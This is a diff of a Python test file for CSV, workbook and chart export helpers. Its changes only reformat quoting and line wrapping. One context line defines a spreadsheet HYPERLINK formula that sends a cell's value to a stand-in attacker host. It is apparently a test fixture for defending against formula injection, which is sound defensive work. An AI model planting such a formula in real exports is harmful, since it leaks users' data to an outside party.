@@ -17,7 +17,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
 
 
 def test_a_csv_holds_its_rows_in_utf_8_that_excel_reads() -> None:
-    file = csv_file("orders.csv", [("Zoë, \"the\" first", 3), ("京", -1.5)], columns=("name", "orders"))
+    file = csv_file("orders.csv", [('Zoë, "the" first', 3), ("京", -1.5)], columns=("name", "orders"))
     assert file.data.startswith("\ufeff".encode())
     read = list(csv.reader(io.StringIO(file.data.decode("utf-8-sig"), newline="")))
     assert read == [["name", "orders"], ['Zoë, "the" first', "3"], ["京", "-1.5"]]
@@ -44,7 +44,9 @@ def test_a_workbook_holds_days_and_moments() -> None:
 
 
 def test_a_chart_is_an_image_of_few_octets_that_a_mail_can_show() -> None:
-    chart = bar_chart("days.png", [f"11-{day}" for day in range(1, 29)], {"sent": [*range(27), 1000], "failed": [0] * 28})
+    chart = bar_chart(
+        "days.png", [f"11-{day}" for day in range(1, 29)], {"sent": [*range(27), 1000], "failed": [0] * 28}
+    )
     image = Image.open(io.BytesIO(chart.data))
     assert (image.format, chart.inline) == ("PNG", True)
     assert len(chart.data) < 20_000
